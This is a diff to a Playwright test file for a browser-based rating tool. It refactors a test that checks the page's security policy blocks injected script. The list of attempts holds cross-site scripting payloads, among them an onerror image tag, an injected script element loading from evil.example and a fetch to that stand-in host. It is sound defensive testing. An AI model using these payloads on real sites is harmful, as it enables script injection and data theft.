@@ -96,6 +96,13 @@ def server(few: tuple[Path, list[Path]], tmp_path: Path) -> Iterator[Server]:
     one.stop()
 
 
+@pytest.fixture(scope="module")
+def standing(few: tuple[Path, list[Path]]) -> Iterator[Server]:
+    one = Server(*few, "--passage", out="standing.csv")
+    yield one
+    one.stop()
+
+
 def settled(page: Any) -> None:
     page.wait_for_selector('#saved[data-state="saved"]')
 
@@ -253,29 +260,29 @@ def test_nothing_planted_in_a_text_runs_and_all_of_it_is_shown_as_it_is(desk: De
     assert marks(server) == {1: (("correct",), HOSTILE)}
 
 
-@pytest.mark.parametrize(
-    "attempt",
-    [
-        "document.body.innerHTML = '<img src=x onerror=window.hacked=1>'",
-        "document.getElementById('answer').setAttribute('onclick', 'window.hacked = 1')",
-        "document.head.append(Object.assign(document.createElement('script'), { textContent: 'window.hacked = 1' }))",
-        "document.head.append(Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' }))",
-        "await fetch('https://evil.example/x')",
-        "setTimeout('window.hacked = 1', 0)",
-    ],
+ATTEMPTS = (
+    "document.body.innerHTML = '<img src=x onerror=window.hacked=1>'",
+    "document.getElementById('answer').setAttribute('onclick', 'window.hacked = 1')",
+    "document.head.append(Object.assign(document.createElement('script'), { textContent: 'window.hacked = 1' }))",
+    "document.head.append(Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' }))",
+    "await fetch('https://evil.example/x')",
+    "setTimeout('window.hacked = 1', 0)",
 )
-def test_the_browser_itself_would_refuse_what_got_in(desk: Desk, server: Server, attempt: str) -> None:
-    page = desk.open(server, "Anna")
-    outcome = page.evaluate(
-        f"(async () => {{ try {{ {attempt}; return 'taken'; }} catch (error) {{ return error.name; }} }})()"
-    )
-    assert outcome == "TypeError"
+
+
+def test_the_browser_itself_would_refuse_what_got_in(desk: Desk, standing: Server) -> None:
+    page = desk.open(standing, "Mallory")
+    for attempt in ATTEMPTS:
+        outcome = page.evaluate(
+            f"(async () => {{ try {{ {attempt}; return 'taken'; }} catch (error) {{ return error.name; }} }})()"
+        )
+        assert outcome == "TypeError", attempt
+        assert desk.complaints, "the browser says that it refused"
+        desk.complaints.clear()
     page.keyboard.press("4")
     settled(page)
     assert page.evaluate("window.hacked") is None
-    assert all(url.startswith(server.base) for url in desk.asked)
-    assert desk.complaints, "the browser says that it refused"
-    desk.complaints.clear()
+    assert all(url.startswith(standing.base) for url in desk.asked)
 
 
 def test_undo_takes_back_any_step_and_finds_its_place(desk: Desk, server: Server) -> None:
@@ -372,16 +379,16 @@ def test_place_pace_and_progress(desk: Desk, server: Server) -> None:
     assert other.evaluate("document.getElementById('progress').value") == 6
 
 
-def test_a_key_held_down_rates_once(desk: Desk, server: Server) -> None:
-    page = desk.open(server, "Anna")
+def test_a_key_held_down_rates_once(desk: Desk, standing: Server) -> None:
+    page = desk.open(standing, "Holder")
     for _ in range(4):  # without letting go
         page.keyboard.down("4")
     page.keyboard.up("4")
     assert where(page) == "Answer 2 of 6"
 
 
-def test_single_keys_can_be_turned_off(desk: Desk, server: Server) -> None:
-    page = desk.open(server, "Anna")
+def test_single_keys_can_be_turned_off(desk: Desk, standing: Server) -> None:
+    page = desk.open(standing, "Keyless")
     page.keyboard.press("?")
     page.uncheck("#keys-on")
     page.keyboard.press("Escape")
@@ -392,9 +399,9 @@ def test_single_keys_can_be_turned_off(desk: Desk, server: Server) -> None:
     assert page.is_visible("#help")
 
 
-def test_a_stranger_is_told_what_to_do(desk: Desk, server: Server) -> None:
+def test_a_stranger_is_told_what_to_do(desk: Desk, standing: Server) -> None:
     page = desk.page()
-    page.goto(server.base)
+    page.goto(standing.base)
     assert "the address that 'ecg-bench ratings serve' printed" in page.text_content("body")
 
 
@@ -492,8 +499,8 @@ def test_every_state_has_names_headings_in_order_and_contrast(browser: Any, serv
     context.close()
 
 
-def test_tab_reaches_every_control_and_shows_where_it_is(desk: Desk, server: Server) -> None:
-    page = desk.open(server, "Anna")
+def test_tab_reaches_every_control_and_shows_where_it_is(desk: Desk, standing: Server) -> None:
+    page = desk.open(standing, "Anna")
     page.keyboard.press("4")
     reached = set()
     for _ in range(30):
@@ -517,11 +524,11 @@ def test_tab_reaches_every_control_and_shows_where_it_is(desk: Desk, server: Ser
 
 @pytest.mark.parametrize(("width", "height"), [(1366, 768), (1024, 768), (820, 1180), (360, 740)])
 @pytest.mark.parametrize("size", ["normal", "larger"])
-def test_nothing_is_cut_off_at_any_width(browser: Any, server: Server, width: int, height: int, size: str) -> None:
+def test_nothing_is_cut_off_at_any_width(browser: Any, standing: Server, width: int, height: int, size: str) -> None:
     context = browser.new_context(viewport={"width": width, "height": height})
     context.add_init_script(f"localStorage.setItem('ecg-bench:looks', '{{\"size\": \"{size}\"}}')")
     page = context.new_page()
-    page.goto(server.url)
+    page.goto(standing.url)
     page.fill("#name", "A rater with quite a long name")
     page.keyboard.press("Enter")
     page.wait_for_selector("#card:not([hidden])")
